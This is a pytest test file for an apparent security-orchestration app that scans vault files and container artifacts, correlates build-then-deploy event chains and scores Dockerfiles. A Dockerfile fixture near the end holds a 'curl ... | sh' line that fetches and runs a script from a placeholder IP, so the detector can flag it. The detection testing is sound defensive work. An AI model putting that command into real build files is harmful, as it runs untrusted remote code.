"""Files of the vault, containers, chains and Dockerfiles."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from .conftest import Run
from .events import ALL, BUILD, DEPLOY, EGRESS, Stored, counts, failure, lines


@pytest.mark.parametrize("pack", [bytes, gzip.compress], ids=["plain", "gzip"])
@pytest.mark.parametrize("text", [lines(ALL) + "\nnot json\n", json.dumps([*ALL, 7])])
def test_scan_vault_file(
    run: Run, stored: Stored, text: str, pack: Callable[[bytes], bytes]
) -> None:
    result = run("scan_vault_file", vault_id=stored(pack(text.encode())))

    assert counts(result, "events", "findings", "skipped", "chains") == [5, 2, 1, 1]


def test_a_vault_file_that_is_not_there_or_breaks_is_a_failure(run: Run, stored: Stored) -> None:
    assert "there is no file '00" in failure(run("scan_vault_file", vault_id="0" * 40))
    cut = gzip.compress(lines(ALL).encode())[:-20]
    assert "cannot be read to its end" in failure(run("scan_vault_file", vault_id=stored(cut)))


def test_a_report_has_all_findings_and_chains(
    run: Run, app: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(type(app.soar_client.vault), "get_vault_tmp_dir", lambda _: str(tmp_path))
    result = run("score_events", events=ALL * 3, max_findings=1, write_report=True)
    (id,) = counts(result, "report_vault_id")
    (file,) = app.soar_client.vault.get_attachment(vault_id=id)
    with file.open() as stream:
        rows = [json.loads(line) for line in stream]

    assert [row.get("branch") or row.get("verdict") for row in rows] == [
        *(["image_build", "builder_egress"] * 3),
        "build-then-deploy",
    ]


def test_a_report_of_a_run_that_fails_is_taken_away(
    run: Run, app: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(type(app.soar_client.vault), "get_vault_tmp_dir", lambda _: str(tmp_path))
    failure(run("score_events", events="x", write_report=True))

    assert list(tmp_path.iterdir()) == []


def test_correlate(run: Run, stored: Stored) -> None:
    for params in ({"events": ALL}, {"vault_id": stored(lines(ALL).encode())}):
        result = run("correlate", **params)
        (chain,) = result.get_data()

        assert (chain["verdict"], chain["device"]) == ("build-then-deploy", "web-prod-07")
        assert chain["stages"][-1] == "deploy"
        assert "T1612" in chain["techniques"]
        assert counts(result, "events", "chains", "returned") == [4, 1, 1]
    assert counts(run("correlate", events=[DEPLOY]), "chains", "verdict") == [0, "none"]


@pytest.mark.parametrize(
    ("params", "said"),
    [
        ({}, "give either events or a vault_id"),
        ({"events": ALL, "vault_id": "x"}, "give either events or a vault_id"),
        ({"events": ALL, "window_minutes": 0}, "window_minutes is 0; it is 1 or more"),
        ({"events": ALL, "max_chains": -1}, "max_chains is -1; it is 0 to 10,000"),
        ({"events": "x"}, "is no JSON"),
    ],
)
def test_correlate_says_what_is_wrong(run: Run, params: dict[str, Any], said: str) -> None:
    assert said in failure(run("correlate", **params))


def pages(monkeypatch: pytest.MonkeyPatch, app: Any, artifacts: list[Any]) -> list[dict[str, Any]]:
    """Answer as the platform does, and give what it was asked."""
    asked: list[dict[str, Any]] = []

    def get(_: Any, endpoint: str, *, params: dict[str, Any], timeout: Any) -> httpx.Response:
        assert timeout is not None  # the SDK waits without end
        asked.append({"endpoint": endpoint, **params})
        size, at = params["page_size"], params["page"] * params["page_size"]
        answer = {
            "count": len(artifacts),
            "num_pages": -(-len(artifacts) // size),
            "data": artifacts[at : at + size],
        }
        return httpx.Response(200, json=answer)

    monkeypatch.setattr(type(app.soar_client), "get", get)
    return asked


def test_score_container(run: Run, app: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    artifacts: list[Any] = [{"id": 10 + at, "cef": event} for at, event in enumerate(ALL)]
    artifacts += [{"id": 99}, None]
    asked = pages(monkeypatch, app, artifacts)
    result = run("score_container", container_id=7, page_size=2)

    assert counts(result, "events", "findings", "skipped", "chains") == [6, 2, 2, 1]
    assert [row["artifact_id"] for row in result.get_data()] == [10, 11]
    assert [(each["endpoint"], each["_filter_container_id"], each["page"]) for each in asked] == [
        *(("rest/artifact", 7, 0), ("rest/artifact", 7, 1), ("rest/artifact", 7, 2))
    ]
    run("score_container")
    assert asked[-1]["_filter_container_id"] == 1  # the one that the action runs in


def test_the_time_of_an_artifact_is_that_of_an_event_without_one(
    run: Run, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    times = [event["Timestamp"] for event in (BUILD, DEPLOY)]
    bare = [{**event, "Timestamp": ""} for event in (BUILD, DEPLOY)]
    rows = zip(times, bare, strict=True)
    pages(monkeypatch, app, [{"id": 7, "start_time": time, "cef": cef} for time, cef in rows])

    assert counts(run("score_container"), "chains", "warning") == [1, ""]


def test_a_container_that_cannot_be_read_is_a_failure(
    run: Run, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise httpx.ConnectError("no route")

    monkeypatch.setattr(type(app.soar_client), "get", refuse)

    assert "the artifacts of container 7: no route" in failure(
        run("score_container", container_id=7)
    )
    assert "page_size is 0" in failure(run("score_container", container_id=7, page_size=0))


def test_several_files_are_one_run(run: Run, stored: Stored) -> None:
    ids = [stored(lines(events).encode()) for events in ([BUILD], [EGRESS, {"a": 1}], [DEPLOY])]
    for action in ("scan_vault_file", "correlate"):
        result = run(action, vault_id=" , ".join(ids))
        assert counts(result, "events", "skipped", "chains") == [4, 1, 1]
    assert "there is no file 'x'" in failure(run("scan_vault_file", vault_id=f"{ids[0]}, x"))
    assert "vault_id is empty" in failure(run("scan_vault_file", vault_id=" , "))


DOCKERFILE = "FROM alpine\nRUN curl -s http://203.0.113.7/i.sh | sh\n"


def test_score_dockerfile(run: Run, stored: Stored) -> None:
    for params in ({"content": DOCKERFILE}, {"vault_id": stored(DOCKERFILE.encode())}):
        result = run("score_dockerfile", **params)
        assert counts(result, "matched", "verdict") == [True, "suspicious"]
        assert {row["signal"] for row in result.get_data()} >= {"dockerfile.address_source"}
        assert result.get_data()[0]["line"] == 2
    quiet = run("score_dockerfile", content="FROM alpine\nCOPY . .\n")
    assert counts(quiet, "score", "matched", "verdict") == [0, False, "none"]


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (gzip.compress(DOCKERFILE.encode()), "it is packed with gzip"),
        (b"FROM a\0", "it is no text"),
        (b"FROM \xff\xfe", "it is no text in UTF-8"),
        (b" \n", "the Dockerfile is empty"),
        (b"FROM a\n" * 200_000, "the Dockerfile is longer than 1,048,576 bytes"),
    ],
    ids=["gzip", "binary", "latin", "empty", "long"],
)
def test_what_is_no_dockerfile_is_a_failure(
    run: Run, stored: Stored, data: bytes, said: str
) -> None:
    assert said in failure(run("score_dockerfile", vault_id=stored(data)))


def test_score_dockerfile_says_what_is_wrong(run: Run, stored: Stored) -> None:
    for params in ({}, {"content": "FROM a", "vault_id": "x"}):
        assert "give either content or a vault_id" in failure(run("score_dockerfile", **params))
    two = f"{stored(b'FROM a')},{stored(b'FROM b')}"
    assert "a Dockerfile is one file" in failure(run("score_dockerfile", vault_id=two))
